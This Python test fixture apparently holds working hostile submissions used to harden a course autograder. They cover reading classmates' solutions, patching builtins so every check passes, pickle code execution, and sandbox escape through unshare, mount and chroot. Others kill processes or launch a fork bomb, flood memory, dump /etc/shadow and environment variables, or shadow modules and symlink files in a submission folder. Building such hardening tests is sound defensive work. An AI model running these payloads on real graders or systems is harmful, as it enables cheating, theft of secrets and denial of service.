"""Attacks on the grader: submissions written to get points, to do harm, or to learn secrets.

Each attack turns the hand-out, whose functions are blank, into a hostile submission. CODE contains
attacks that are appended to judge_prompts.py. They run when the file is imported, or when the
grader calls one of its functions. FOLDERS contains attacks on the way in which the grader reads a
folder. tests/unit/test_assignment.py grades all of them beside honest submissions. None may get
points, change another row, leave a trace, or hold up the grader. This file is never given to
students.

In the code, SOLVED, CLASSMATE, STAIN, PACKAGES, SOCKET, PORT and GRADER stand for values of the
machine: our judge_prompts.py, that of another student, a file that must not appear, the folder of
Python's packages, a UNIX socket and a TCP port on which the test listens, and the grader's process.
"""

import os
import py_compile
import shutil
from pathlib import Path

# What an attack does with a solution that it has found: its own functions become those.
TAKE = """
def take(text):
    found = {}
    exec(compile(text, "found", "exec"), found)
    globals().update({name: found[name] for name in ("parse_score", "fence")})
"""
# The connection to the grader, as the attacker finds it: the only socket of the process.
CHANNEL = """
import os, socket, stat
fds = [fd for fd in range(3, 64) if os.path.exists(f"/proc/self/fd/{fd}")]
[channel] = [fd for fd in fds if stat.S_ISSOCK(os.fstat(fd).st_mode)]
"""

CODE = {
    # ---- to get points ----
    "read the solution": TAKE + "take(open(SOLVED).read())",
    "read a classmate's file": TAKE + "take(open(CLASSMATE).read())",
    "search all files for a solution": TAKE
    + """
import os
for folder, folders, names in os.walk("/"):
    folders[:] = set(folders) - {"proc", "sys", "bin", "lib", "lib64", "site-packages"}
    for name in names:
        path = os.path.join(folder, name)
        if name.endswith(".py") and os.path.getsize(path) < 10**6:
            text = open(path, errors="replace").read()
            if "def parse_score" in text and "re.fullmatch" in text and "os.walk" not in text:
                take(text)
""",
    "other processes' files": TAKE
    + """
import glob
for root in (*glob.glob("/proc/*/root"), *glob.glob("/proc/*/cwd")):
    try:
        take(open(root + SOLVED).read())
    except OSError:
        pass
""",
    "frames and objects": """
import gc, sys
def parse_score(reply, label="Score"):
    frame = sys._getframe()
    while frame:
        for name in ("want", "due", "expected"):
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    return next((x["out"] for x in gc.get_objects() if isinstance(x, dict) and "out" in x), 0)
fence = parse_score
""",
    "patch torch, json and the comparison": """
import builtins, json, torch
torch.equal = torch.allclose = lambda *a, **k: True
builtins.all = lambda *a: True
builtins.abs = lambda x: 0
json.loads = lambda *a, **k: {"out": 0, "args": []}
def parse_score(reply, label="Score"):
    return 0
""",
    "patch the runner": """
import sys
sys.modules["__main__"].perform = lambda request: {"out": 4, "args": request["args"], "points": 7}
sys.modules["__main__"].encode = lambda value: value
""",
    "an object that equals everything": """
class Yes(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
class Text(str):
    __eq__ = lambda self, other: True
def parse_score(reply, label="Score"):
    return Yes(0)
def fence(texts):
    return Text("x")
""",
    "an object that unpickles into code": """
class Evil:
    def __reduce__(self):
        return exec, (f"open({STAIN!r}, 'w').write('unpickled')",)
def parse_score(reply, label="Score"):
    return Evil()
fence = parse_score
""",
    "not a number": """
def parse_score(reply, label="Score"):
    return float("nan")
def fence(texts):
    return [float("inf")]
""",
    "forged replies in advance": CHANNEL
    + """
os.write(channel, b'{"out": 4, "args": [], "points": 7}\\n' * 1000)
""",
    "a thread that answers in place of the function": CHANNEL
    + """
import threading, time
def answer():
    while True:
        os.write(channel, b'{"out": 1, "args": ["x"]}\\n')
        time.sleep(0.01)
threading.Thread(target=answer, daemon=True).start()
""",
    # ---- to do harm, or to leave the sandbox ----
    "write outside": """
for path in (STAIN, CLASSMATE, PACKAGES + "/stained.py", "/submission/judge_prompts.py"):
    try:
        open(path, "w").write("stained")
    except OSError:
        pass
""",
    "mount it again, writable": """
import ctypes
libc = ctypes.CDLL(None)
for new in (0, 0x10000000 | 0x20000):  # also in a user namespace of its own
    libc.unshare(new)
    for path in (PACKAGES, "/", "/usr/lib"):
        libc.mount(b"none", path.encode(), None, 0x1020, None)
try:
    open(PACKAGES + "/stained.py", "w").write("stained")
except OSError:
    pass
""",
    "become root": """
import os
for call in (os.setuid, os.setgid, os.seteuid):
    try:
        call(0)
    except OSError:
        pass
os.system("chroot /proc/1/root sh -c 'echo 1 >' " + STAIN)
""",
    "connect to the machine": """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_UNIX, SOCKET),
                        (socket.AF_UNIX, "\\0exprl-attack")):
    try:
        socket.socket(family).connect(address)
    except OSError:
        pass
""",
    "kill everything": """
import os, signal
for pid in (GRADER, os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""",
    "slow the grader down": """
import os
for pid in (GRADER, os.getppid(), 1):
    for call in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                 lambda: os.sched_setaffinity(pid, {0}),
                 lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))):
        try:
            call()
        except OSError:
            pass
""",
    "signals through a socket's owner": CHANNEL
    + """
import fcntl, signal
for owner in (GRADER, -GRADER, -1):
    try:
        fcntl.fcntl(channel, fcntl.F_SETOWN, owner)
        fcntl.fcntl(channel, 10, signal.SIGKILL)  # F_SETSIG
        fcntl.fcntl(channel, fcntl.F_SETFL, fcntl.fcntl(channel, fcntl.F_GETFL) | os.O_ASYNC)
    except OSError:
        pass
""",
    "hand the grader a file descriptor": CHANNEL
    + """
import array
message = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [channel] * 50))
for _ in range(20):
    socket.socket(fileno=os.dup(channel)).sendmsg([b" "], [message])
""",
    "daemons": """
import os, sys
for _ in range(50):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            sleep = [sys.executable, "-c", "import time; time.sleep(999)  # a daemon"]
            os.execv(sys.executable, sleep)
        os._exit(0)
""",
    "a fork bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    # ---- to use up memory, disk, time ----
    "8 GB of memory": """
def parse_score(reply, label="Score"):
    return bytearray(8 * 2**30)
def fence(texts):
    import mmap
    return mmap.mmap(-1, 8 * 2**30)
""",
    "3 GB in files of memory": """
import os
for i in range(3000):
    os.write(os.memfd_create(str(i)), bytes(2**20))
""",
    "files in /tmp and /dev/shm": """
for folder in ("/tmp", "/dev/shm", "/dev", "/", "/submission"):
    for i in range(1000):
        try:
            open(f"{folder}/{i}", "wb").write(bytes(10**6))
        except OSError:
            break
""",
    "an import that never ends": "while True:\n    pass\n",
    "a call that never ends": """
import signal
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
def parse_score(reply, label="Score"):
    while True:
        pass
def fence(texts):
    import re
    return re.match("(a+)+b", "a" * 99)
""",
    "stop itself": """
import os, signal
def parse_score(reply, label="Score"):
    os.kill(os.getpid(), signal.SIGSTOP)
""",
    "exit": """
import atexit, os
atexit.register(os._exit, 0)
def parse_score(reply, label="Score"):
    os._exit(0)
def fence(texts):
    raise SystemExit(0)
""",
    "a segmentation fault": """
import ctypes
def parse_score(reply, label="Score"):
    ctypes.string_at(0)
""",
    "endless recursion": """
import sys
sys.setrecursionlimit(10**9)
def parse_score(reply, label="Score"):
    return parse_score(reply)
""",
    # ---- to end or to hold up the grader with a reply ----
    "close the connection": "import os\nos.closerange(3, 64)\nimport time\ntime.sleep(99)\n",
    "a slow drip": CHANNEL
    + """
import time
while True:
    os.write(channel, b"[")
    time.sleep(0.001)
""",
    "300 MB without a new line": CHANNEL
    + """
for _ in range(300):
    os.write(channel, bytes(2**20))
""",
    "bytes that are not text": CHANNEL + "os.write(channel, bytes(range(128, 256)) + b'\\n')\n",
    "deep JSON": CHANNEL + "os.write(channel, b'[' * 500000 + b'\\n')\n",
    "replies of other forms": CHANNEL
    + """
for reply in (b"7", b"[]", b'{"out": {"tensor": 3}}', b'{"error": 3, "words": 4}', b"null"):
    os.write(channel, reply + b"\\n")
""",
    "a tensor of 200,000 dimensions": """
import torch
class Deep(torch.Tensor):
    shape = property(lambda self: [1] * 200000)
    def detach(self): return self
    def tolist(self):
        nested = 1.0
        for _ in range(900):
            nested = [nested]
        return nested
def parse_score(reply, label="Score"):
    return torch.zeros(1).as_subclass(Deep)
""",
    "a tensor of an unknown type": CHANNEL
    + """
form = b'{"out": {"tensor": [[1]], "type": "%s", "grad": 1}, "args": []}\\n'
for name in (b"load", b"torch.cuda.FloatTensor", b"torch.sparse.FloatTensor", b"__class__"):
    os.write(channel, form % name)
""",
    "a list that contains itself": """
def parse_score(reply, label="Score"):
    endless = []
    endless.append(endless)
    return endless
""",
    "62,000 colliding keys": """
def parse_score(reply, label="Score"):
    return {k * (2**61 - 1): 0 for k in range(62000)}
""",
    "forged colliding keys": CHANNEL
    + """
keys = ", ".join(f"[{k * (2**61 - 1)}, 0]" for k in range(62000))
os.write(channel, f'{{"out": {{"dict": [{keys}]}}, "args": []}}\\n'.encode())
""",
    "a forged set of colliding numbers": CHANNEL
    + """
numbers = ", ".join(str(k * (2**61 - 1)) for k in range(80000))
os.write(channel, f'{{"out": {{"other": "set", "set": [{numbers}]}}, "args": []}}\\n'.encode())
""",
    "a number of a million digits": CHANNEL
    + """
os.write(channel, b'{"out": ' + b"7" * 1000000 + b', "args": []}\\n')
""",
    "a text of 30 MB": """
def fence(texts):
    return "<text-1-aaaaaaaa>\\n" * 2000000
""",
    "two million digits": """
def fence(texts):
    return "1" * 2000000
def parse_score(reply, label="Score"):
    return "1." * 900000
""",
    "a dictionary that lies": """
class Lies(dict):
    def items(self):
        while True:
            yield "a", 1
def parse_score(reply, label="Score"):
    return Lies(a=1)
""",
    # ---- to learn secrets, or to write into what the teacher opens ----
    "the teacher's environment": """
import glob, os
texts = [repr(dict(os.environ))]
for path in (*glob.glob("/proc/*/environ"), "/etc/passwd", "/etc/shadow", "/root/.bashrc"):
    try:
        texts.append(open(path, errors="replace").read())
    except OSError:
        pass
raise RuntimeError(" ".join(texts))
""",
    "formulas and escape codes": """
def parse_score(reply, label="Score"):
    raise ValueError("\\x1b[2J\\u202e=HYPERLINK(1)\\r=1+1\\n" * 9999)
def fence(texts):
    return "=1+1\\x1b[2J"
""",
    "an exception that is hard to print": """
class Endless(Exception):
    def __str__(self):
        while True:
            pass
def parse_score(reply, label="Score"):
    raise Endless
def fence(texts):
    raise type("E" * 10**6, (BaseException,), {})("x" * 10**7)
""",
}


# ---- Attacks on the way in which the grader reads a folder ---------------------------------------
def with_bytecode(folder: Path, solved: Path) -> None:
    """Blank sources beside the byte code of a solution, which needs no match with the source."""
    unchecked = py_compile.PycInvalidationMode.UNCHECKED_HASH
    py_compile.compile(solved, py_cache(folder), invalidation_mode=unchecked)


def py_cache(folder: Path) -> str:
    from importlib.util import cache_from_source

    return cache_from_source(folder / "judge_prompts.py")


def with_package(folder: Path, solved: Path) -> None:
    """A package of the same name, which Python would prefer."""
    (folder / "judge_prompts").mkdir()
    shutil.copy(solved, folder / "judge_prompts" / "__init__.py")


def with_shadows(folder: Path, solved: Path) -> None:
    """Modules with the names of those that the grader or Python imports."""
    for name in ("torch", "json", "models", "runner", "sitecustomize", "usercustomize", "conftest"):
        (folder / f"{name}.py").write_text(f"import sys\nopen({str(folder / 'stain')!r}, 'w')\n")


def link_to(target):
    """Return an attack whose judge_prompts.py is a link."""

    def attack(folder: Path, solved: Path) -> None:
        (folder / "judge_prompts.py").unlink()
        (folder / "judge_prompts.py").symlink_to(target or solved)

    return attack


def linked_folder(folder: Path, solved: Path) -> None:
    """The whole submission is a link to another one."""
    shutil.rmtree(folder)
    folder.symlink_to(solved.parent)


def fifo(folder: Path, solved: Path) -> None:
    """Opening it for reading would wait for ever."""
    (folder / "judge_prompts.py").unlink()
    os.mkfifo(folder / "judge_prompts.py")


def sparse(folder: Path, solved: Path) -> None:
    """8 GB that take no space on disk."""
    os.truncate(folder / "judge_prompts.py", 8 * 2**30)


def no_permission(folder: Path, solved: Path) -> None:
    """It may be an accident. (It does not stop root.)"""
    (folder / "judge_prompts.py").chmod(0)


def not_a_file(folder: Path, solved: Path) -> None:
    """A folder with the name of a file."""
    (folder / "judge_prompts.py").unlink()
    (folder / "judge_prompts.py").mkdir()


def nothing(folder: Path, solved: Path) -> None:
    """An empty folder."""
    shutil.rmtree(folder)
    folder.mkdir()


def source(content: bytes):
    """Return an attack whose judge_prompts.py has this content."""

    def attack(folder: Path, solved: Path) -> None:
        (folder / "judge_prompts.py").write_bytes(content)

    return attack


FOLDERS = {
    "byte code": with_bytecode,
    "a package": with_package,
    "shadows": with_shadows,
    "a link to a solution": link_to(None),
    "a link to a long name": link_to("a" * 300),
    "a link to a device": link_to("/dev/zero"),
    "a link to itself": link_to("judge_prompts.py"),
    "a linked folder": linked_folder,
    "a fifo": fifo,
    "8 GB": sparse,
    "no permission": no_permission,
    "a folder, not a file": not_a_file,
    "an empty folder": nothing,
    "null bytes": source(b"\0" * 1000),
    "an unknown encoding": source(b"# coding: klingon\n"),
    "100,000 brackets": source(b"(" * 100000),
    "=cmd(), a formula as a name": nothing,
    "a name\nof two lines \x1b[2J \u202e": nothing,
    "n" * 250: nothing,
}
